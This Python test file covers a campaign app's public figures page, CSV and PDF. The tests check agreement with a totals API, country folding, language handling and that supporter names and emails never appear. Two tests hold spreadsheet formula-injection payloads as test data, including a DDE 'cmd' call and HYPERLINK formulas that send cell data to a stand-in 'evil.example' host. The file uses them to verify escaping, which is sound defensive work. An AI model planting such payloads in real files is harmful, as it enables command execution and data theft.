"""The public figures (page, CSV, PDF): they agree with the totals API, fold small countries, leak nothing."""

from __future__ import annotations

import csv
import io
import re
from html.parser import HTMLParser

import pytest

from campaign.cases.models import CaseStatus, Person
from campaign.figures.rendering import escape_cell
from tests.figures.pdf import pdf_fonts, pdf_pages, pdf_text

EMAIL_PATTERN = re.compile(r"[\w.+-]+@[\w-]+\.[\w.-]+")


class DataValues(HTMLParser):
    """The ``<data value>`` numbers of the figures page, keyed by the code of their row."""

    def __init__(self) -> None:
        super().__init__()
        self.total: int | None = None
        self.rows: dict[str, int] = {}
        self._code: str | None = None

    def handle_starttag(self, tag: str, attrs: list) -> None:
        attributes = dict(attrs)
        if tag == "article" and "data-figures-total" in attributes:
            self.total = int(attributes["data-figures-total"])
        if "data-code" in attributes:
            self._code = attributes["data-code"]
        if tag == "data" and self._code is not None:
            self.rows[self._code] = int(attributes["value"])
            self._code = None


def csv_rows(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def csv_values(rows: list[list[str]], section: str) -> dict[str, str]:
    return {row[1]: row[3] for row in rows[1:] if row[0] == section}


def send_reports(report, case, target) -> None:
    """Reports from four countries; Iceland's single report is below the floor of three."""
    report(case, action_type="letter", count=7, country="KZ")
    report(case, action_type="email", count=5, country="KZ", target_id=target.id)
    report(case, action_type="letter", count=4, country="DE", target_id=target.id)
    report(case, action_type="fax", count=3, country="FR")
    report(case, action_type="tweet", count=1, country="IS")


def test_html_csv_and_chinese_pdf_agree_with_the_totals_api(client, make_case, report, tmp_path):
    case = make_case()
    target = case.target_links[0].target
    send_reports(report, case, target)
    api = client.get(f"/api/v1/cases/{case.slug}/totals").get_json()
    folded = api["by_country"]
    other = api["other_countries"]["actions"]
    assert api["other_countries"] == {"countries": 1, "actions": 1, "floor": 3}

    page = client.get(f"/cases/{case.slug}/figures?lang=zh")
    assert page.status_code == 200
    values = DataValues()
    values.feed(page.get_data(as_text=True))
    assert values.total == api["total"] == 20
    assert {code: values.rows[code] for code in api["by_type"]} == api["by_type"]
    assert {code: values.rows[code] for code in folded} == folded
    assert values.rows["other"] == other == 1
    assert "IS" not in values.rows
    assert values.rows[str(target.id)] == api["by_target"][str(target.id)]
    assert values.rows["all"] == api["to_all_targets"]

    rows = csv_rows(client.get(f"/cases/{case.slug}/figures.csv?lang=zh").get_data(as_text=True))
    figures = csv_values(rows, "figures")
    assert int(figures["total"]) == api["total"]
    assert int(figures["countries"]) == api["countries"] == 4
    assert {code: int(count) for code, count in csv_values(rows, "by_type").items()} == api["by_type"]
    by_country = {code: int(count) for code, count in csv_values(rows, "by_country").items()}
    assert by_country == {**folded, "other": other}
    by_target = csv_values(rows, "by_target")
    assert int(by_target[str(target.id)]) == api["by_target"][str(target.id)]
    assert int(by_target["all"]) == api["to_all_targets"]

    pdf = client.get(f"/cases/{case.slug}/figures.pdf?lang=zh")
    assert pdf.status_code == 200
    assert pdf.mimetype == "application/pdf"
    text = pdf_text(pdf.data, tmp_path)
    assert "纳吉兹·穆罕默德" in text
    assert "致官员的统计数据" in text
    assert f"{api['total']} 次行动" in text
    assert "哈萨克斯坦" in text and "冰岛" not in text
    fonts = pdf_fonts(pdf.data, tmp_path)
    assert fonts and all(row[-5] == "yes" for row in fonts), fonts
    assert any("CJK" in row[0] for row in fonts)
    assert pdf_pages(pdf.data, tmp_path) == 1


def test_figures_for_one_official_count_what_was_addressed_to_them_and_to_all(client, make_case, report):
    case = make_case()
    target = case.target_links[0].target
    send_reports(report, case, target)
    api = client.get(f"/api/v1/cases/{case.slug}/totals").get_json()

    rows = csv_rows(client.get(f"/cases/{case.slug}/figures.csv?target={target.id}").get_data(as_text=True))

    figures = csv_values(rows, "figures")
    assert int(figures["addressed_direct"]) == api["by_target"][str(target.id)] == 9
    assert int(figures["addressed_all"]) == api["to_all_targets"] == 11
    assert int(figures["addressed_total"]) == 20
    assert csv_values(rows, "target")[str(target.id)] == target.display_name


def test_figures_default_to_the_officials_language_and_name_people_in_their_own_script(client, make_case, make_target):
    case = make_case()
    official = case.target_links[0].target
    official.preferred_language = "zh-Hans"
    case.people.append(Person(name="Zhanargul Zhumatai", native_name="加娜古丽·朱马太", position=1))
    from campaign.extensions import db

    db.session.commit()

    page = client.get(f"/cases/{case.slug}/figures?target={official.id}").get_data(as_text=True)

    assert '<html lang="zh">' in page
    assert "致官员的统计数据" in page
    assert "加娜古丽·朱马太" in page
    assert "Figures for officials" in client.get(f"/cases/{case.slug}/figures?lang=en").get_data(as_text=True)


def test_no_email_address_or_supporter_name_appears_in_any_figures_output(client, make_case, report, tmp_path, freeze):
    case = make_case()
    copy = case.target_links[1].target
    assert copy.emails, "the copy has an email: it must still not appear in the figures"
    report(case, count=3, name="Aigerim Secret-Supporter", email="aigerim@example.org", remind_me=True)
    report(case, count=4, country="DE", target_id=copy.id, name="Hans Hidden", email="hans@example.net")
    snapshot = freeze(case)

    outputs = {
        "page": client.get(f"/cases/{case.slug}/figures").get_data(as_text=True),
        "official page": client.get(f"/cases/{case.slug}/figures?target={copy.id}").get_data(as_text=True),
        "csv": client.get(f"/cases/{case.slug}/figures.csv?target={copy.id}").get_data(as_text=True),
        "verify": client.get(f"/figures/verify/{snapshot.sha256}").get_data(as_text=True),
        "json": client.get(f"/figures/verify/{snapshot.sha256}.json").get_data(as_text=True),
        "snapshot csv": client.get(f"/figures/verify/{snapshot.sha256}.csv").get_data(as_text=True),
        "snapshot pdf": pdf_text(client.get(f"/figures/verify/{snapshot.sha256}.pdf").data, tmp_path),
    }
    for name, text in outputs.items():
        assert not EMAIL_PATTERN.search(text), f"an email address in the {name}"
        assert "Secret-Supporter" not in text and "Hans Hidden" not in text, f"a supporter's name in the {name}"
    assert "7" in outputs["csv"]


@pytest.mark.parametrize(
    "dangerous",
    ['=HYPERLINK("http://evil.example","x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\tTAB", "\rCR"],
)
def test_a_csv_cell_that_a_spreadsheet_would_run_is_escaped(dangerous):
    assert escape_cell(dangerous) == "'" + dangerous
    assert escape_cell("Zhanargul Zhumatai") == "Zhanargul Zhumatai"
    assert escape_cell(-5) == -5


def test_csv_escapes_formula_injection_in_every_text_the_case_carries(client, make_case, make_target, report):
    case = make_case(headline='=HYPERLINK("http://evil.example/?"&A1,"Click")')
    case.asks[0].text = "+SUM(1,2)"
    case.people[0].name = "@cmd"
    case.target_links[0].target.name = "-Director"
    case.target_links[0].target.title = None
    case.target_links[0].target.organisation = None
    case.ua_number = "\t=1+1"
    from campaign.extensions import db

    db.session.commit()
    report(case)

    rows = csv_rows(client.get(f"/cases/{case.slug}/figures.csv").get_data(as_text=True))

    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    cells = [cell for row in rows for cell in row]
    assert "'" + case.headline in cells
    assert "'+SUM(1,2)" in cells
    assert "'-Director" in cells


def test_figures_refuse_an_unknown_language_or_official_clearly_and_hide_drafts(client, make_case):
    case = make_case()
    draft = make_case(status=CaseStatus.DRAFT)

    unknown_language = client.get(f"/cases/{case.slug}/figures?lang=xx")
    assert unknown_language.status_code == 400
    assert "en, zh" in unknown_language.get_data(as_text=True)
    for bad_target in ("abc", "99999", "1e3", "-1", "１"):
        answer = client.get(f"/cases/{case.slug}/figures.csv?target={bad_target}")
        assert answer.status_code == 400, bad_target
    for suffix in ("", ".csv", ".pdf"):
        assert client.get(f"/cases/{draft.slug}/figures{suffix}").status_code == 404
        assert client.get(f"/cases/no-such-case/figures{suffix}").status_code == 404


def test_the_action_page_links_to_the_figures(client, make_case):
    case = make_case()

    page = client.get(f"/cases/{case.slug}").get_data(as_text=True)

    assert f'href="/cases/{case.slug}/figures"' in page
